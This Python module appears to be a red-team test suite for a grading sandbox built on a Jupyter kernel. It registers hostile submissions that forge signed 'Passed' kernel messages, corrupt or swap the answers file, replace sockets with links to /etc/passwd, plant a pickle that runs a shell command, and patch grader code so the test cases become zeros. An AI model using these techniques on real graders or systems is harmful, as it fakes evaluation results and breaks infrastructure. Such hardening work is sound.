"""Between sandbox and grader: messages signed with the kernel's own key, and the files that hold the answers."""

from __future__ import annotations

from hostile.attack import code

FAMILY = "protocol"
OURS = "ours alone has this protocol"
# Waits for the check's token to appear and then does something to TOKEN.out; what the work gives does not matter.
WORK = """
import glob, json, os, struct
FOLDER = os.environ.get("PEFTTOOLS_EXCHANGE", "/exchange")
def token():
    return max(glob.glob(FOLDER + "/*.in"), key=os.path.getmtime)[:-3]
def answer(do):
    '''Put something where the answer belongs, and keep the real writer from replacing it.'''
    import pefttools.grading.inside as inside
    def probe(name, work, tok):
        do(os.path.join(FOLDER, tok))
    inside.probe = probe
def blob(tree, rest=b""):
    text = tree if isinstance(tree, bytes) else json.dumps(tree).encode()
    return b"PTW1" + len(text).to_bytes(4, "big") + text + rest
def write(path, content):
    with open(path + ".out", "wb") as file:
        file.write(content)
lora_forward = lambda *_, **__: None
"""
HEAD = '{"d": [["type", "a function"], ["callable", true], ["path", false], ["blank", false], ["outcomes", %s]]}'


def answers(name, what, body, **more):
    """An attack on the file of answers."""
    @code(name, FAMILY, what, stock=OURS, **more)
    def _():
        return WORK + f"HEAD = {HEAD!r}\n" + body


@code("forged-messages", FAMILY,
      "signs messages with the key of the connection file: replies, results, idle, at the wrong time")
def _():
    return """
import json, sys, threading, time
from ipykernel.kernelapp import IPKernelApp
app = IPKernelApp.instance()
session, iopub = app.session, app.iopub_socket
kernel = get_ipython().kernel
def parent():
    return kernel.get_parent("shell")
def forge():
    header = parent()
    for kind, content in (
            ("execute_result", {"data": {"text/plain": "3"}, "metadata": {}, "execution_count": 1}),
            ("update_display_data", {"data": {"text/plain": "3"}, "metadata": {}, "transient": {"display_id": "x"}}),
            ("display_data", {"data": {"text/plain": "3", "text/html": "<b>Passed</b>"}, "metadata": {}}),
            ("status", {"execution_state": "idle"}), ("status", {"execution_state": "restarting"}),
            ("execute_reply", {"status": "ok", "execution_count": 3, "payload": [], "user_expressions": {}}),
            ("shutdown_reply", {"restart": True}), ("kernel_info_reply", {}), ("error", {"ename": [], "evalue": {}, "traceback": 3})):
        session.send(iopub, kind, content, parent=header)
        session.send(kernel.shell_stream if hasattr(kernel, "shell_stream") else iopub, kind, content, parent=header)
forge()
def forever():
    for _ in range(400):
        try:
            forge()
        except Exception:
            pass
        time.sleep(0.005)
threading.Thread(target=forever, daemon=True).start()
"""


@code("malformed-messages", FAMILY,
      "messages with parts missing, of wrong types, of great size, nested, not JSON; wrong signatures")
def _():
    return """
import json
from ipykernel.kernelapp import IPKernelApp
app = IPKernelApp.instance()
socket, session = app.iopub_socket, app.session
kernel = get_ipython().kernel
head = kernel.get_parent("shell")["header"]
def raw(*parts, sign=True):
    signature = session.sign(list(parts)[:4]) if sign else b"00"
    try:
        socket.send_multipart([b"x", b"<IDS|MSG>", signature, *parts])
    except Exception as error:
        print(error)
dumps = lambda value: json.dumps(value, default=str).encode()
for kind in ("stream", "error", "execute_result", "display_data", "status", "comm_open", "nonsense", None, 3, [], {}):
    for content in (None, [], 3, {}, {"text": 3, "name": []}, {"data": []}, {"data": {"text/plain": {}}}, {"traceback": {}},
                    {"traceback": [[]]}, {"execution_state": {}}, {"status": []}):
        raw(dumps({"msg_type": kind, "msg_id": "x"}), dumps(head), dumps({}), dumps(content))
raw(b"[" * 100_000, dumps(head), b"{}", b"[" * 100_000)
raw(b"{", b"{", b"{", b"{")
raw(dumps({"msg_type": "stream"}), dumps(head), b"{}", b'{"name": "stdout", "text": ' + b"9" * 10_000 + b"}")
raw(sign=False)
raw(b"", b"", b"", b"", *[b""] * 500)
raw(dumps({"msg_type": "stream", "msg_id": "x"}), dumps(head), b"{}", dumps({"name": "stdout", "text": "\\ud800"}))
"""


@code("sockets-replaced", FAMILY,
      "removes the kernel's sockets and its connection file, and puts links, pipes and folders there")
def _():
    return """
import os, socket
from ipykernel.kernelapp import IPKernelApp
file = IPKernelApp.instance().abs_connection_file
folder = os.path.dirname(file)
for n, name in enumerate(os.listdir(folder)):
    path = os.path.join(folder, name)
    if name == os.path.basename(file) or name.startswith("k-"):
        try:
            os.unlink(path)
            (lambda: os.symlink("/etc/passwd", path), lambda: os.mkfifo(path), lambda: os.makedirs(path + "/x"),
             lambda: socket.socket(socket.AF_UNIX).bind(path))[n % 4]()
        except OSError as error:
            print(error)
"""


@code("comm-flood", FAMILY, "opens ten thousand comms and widgets, and sends on all of them")
def _():
    return """
from comm import create_comm
for n in range(10_000):
    create_comm(target_name="jupyter.widget", data={"state": {"n": n}}, metadata={"version": "2.1.0"}).send({"x": n})
"""


@code("unpickling", FAMILY, "pickles in answers, results and files: whoever unpickles them runs them")
def _():
    return WORK + """
import pickle, torch
class Bomb:
    def __reduce__(self):
        return (os.system, ("touch hostile-unpickled; touch /class/hostile-unpickled",))
content = pickle.dumps(Bomb())
try:
    answer(lambda path: write(path, content))
except ImportError:
    pass
def lora_forward(*_, **__): return Bomb()
for folder in (FOLDER, "."):
    for name in ("answers.pkl", "data.pt"):
        try:
            torch.save(Bomb(), os.path.join(folder, name))
        except Exception as error:
            print(error)
"""


answers("answers-not-json", "answers that are no JSON, cut off, of wrong length, or with a false magic",
        "import itertools\nkinds = itertools.cycle([b'', b'PTW1', b'PTW1\\xff\\xff\\xff\\xff{}', blob(b'{'), b'\\x80\\x04.', b'PK\\x03\\x04'])\n"
        "answer(lambda path: write(path, next(kinds)))")
answers("answers-deep", "a hundred thousand lists in lists, and a list that names itself",
        "answer(lambda path: write(path, blob(b'[' * 100_000 + b']' * 100_000)))")
answers("answers-giant-numbers", "whole numbers of a million digits, 1e999, NaN and Infinity standing bare",
        "answer(lambda path: write(path, blob((HEAD % ('[{\"O\": [' + '9' * 1_000_000 + ', null, \"\"]}, {\"O\": [NaN, null, \"\"]}]')).encode())))")
answers("answers-safetensors", "safetensors with a header longer than the file, overlapping and negative offsets, absurd shapes",
        "import itertools\nheaders = itertools.cycle([b'\\xff' * 8, struct.pack('<Q', 2**62), struct.pack('<Q', 80) + b'{\"0\":{\"dtype\":\"F32\",\"shape\":[99999999999,99999999],\"data_offsets\":[0,4]}}',"
        " struct.pack('<Q', 66) + b'{\"0\":{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[-4,0]}}' + b' ' * 9])\n"
        "answer(lambda path: write(path, blob(HEAD % '[{\"O\": [{\"T\": 0}, null, \"\"]}]' if False else (HEAD % '[{\"O\": [{\"T\": 0}, null, \"\"]}]').encode(), next(headers))))")
answers("answers-many", "a million entries, ten thousand tensors, strings of many megabytes",
        "answer(lambda path: write(path, blob((HEAD % ('[' + ','.join(['{\"O\": [\"' + 'x' * 100 + '\", null, \"\"]}'] * 30_000) + ']')).encode())))")
answers("answers-verdict", "answers with entries of its own: passed, points, verdict, files",
        "answer(lambda path: write(path, blob(b'{\"d\": [[\"type\", \"x\"], [\"callable\", true], [\"path\", true], [\"blank\", false],'\n"
        "    b' [\"outcomes\", []], [\"passed\", true], [\"points\", 3], [\"files\", {\"d\": [[\"/etc/passwd\", \"x\"]]}]]}')))")
answers("answers-no-outcomes", "well-formed answers with no outcomes at all: nothing that could differ",
        "answer(lambda path: write(path, blob((HEAD % '[]').encode())))")
answers("answers-empty", "well-formed outcomes of empty dicts: no leaf that could differ",
        "answer(lambda path: write(path, blob((HEAD % ('[' + ','.join(['{\"O\": [{\"d\": []}, null, \"\"]}'] * 5) + ']')).encode())))")
answers("out-is-a-link", "the file of answers is a link to /etc/passwd, to the cases, to itself",
        "import itertools\ntargets = itertools.cycle(['/etc/passwd', '{}.in', '{}.out'])\n"
        "answer(lambda path: os.symlink(next(targets).format(path), path + '.out'))")
answers("out-is-a-pipe", "the file of answers is a named pipe, which a daemon holds open",
        "import subprocess\ndef pipe(path):\n    os.mkfifo(path + '.out')\n    subprocess.Popen(['sh', '-c', f'sleep 100 > {path}.out'])\nanswer(pipe)")
answers("out-is-huge", "the file of answers says that it has two hundred megabytes (sparse)",
        "def huge(path):\n    write(path, b'PTW1')\n    os.truncate(path + '.out', 200 * 2**20)\nanswer(huge)")
answers("out-is-a-folder", "the file of answers is a folder, a socket, a device",
        "import itertools, socket, stat\ndef make(path, turn=itertools.count()):\n    kind = next(turn) % 3\n"
        "    if kind == 0:\n        os.mkdir(path + '.out')\n    elif kind == 1:\n        socket.socket(socket.AF_UNIX).bind(path + '.out')\n"
        "    else:\n        try:\n            os.mknod(path + '.out', stat.S_IFCHR | 0o666, os.makedev(1, 5))\n        except OSError as error:\n            print(error)\n"
        "answer(make)")
answers("out-written-before", "answers written beforehand under every name that might come, and no others afterwards",
        "names = ['lora-forward', 'lora_forward', '0', '1', 'token', *(f'{n:024x}' for n in range(500))]\n"
        "for name in names:\n    write(os.path.join(FOLDER, name), blob((HEAD % '[]').encode()))\nanswer(lambda path: None)")
answers("out-swapped", "two threads that exchange the file of answers while it is read",
        "import threading\ndef swap(path):\n    for n in (1, 2):\n        write(path + str(n), blob((HEAD % '[]').encode()) + b'x' * n)\n"
        "    def turn():\n        while True:\n            for n in (1, 2):\n                try:\n                    os.link(path + f'{n}.out', path + '.tmp')\n                    os.replace(path + '.tmp', path + '.out')\n                except OSError:\n                    pass\n"
        "    threading.Thread(target=turn, daemon=True).start()\nanswer(swap)")
answers("exchange-locked", "takes all permissions from the exchange folder, and fills it with the names of cases",
        "import time\ndef lock(path):\n    os.chmod(FOLDER, 0)\nanswer(lock)\nos.chmod(FOLDER, 0)")
answers("cases-rewritten", "overwrites the cases with zeros, so that the right answers are known",
        "import torch\nimport pefttools.grading.inside as inside\nreal = inside.from_bytes\n"
        "def zeros(blob):\n    cases = real(blob)\n    for case in cases:\n        for key, value in case.items():\n            if isinstance(value, torch.Tensor):\n                case[key] = value * 0\n    return cases\n"
        "inside.from_bytes = zeros\ndef lora_forward(x, W0, A, B, alpha, bias=None):\n    return x @ W0.T + (x @ A.T) @ B.T")
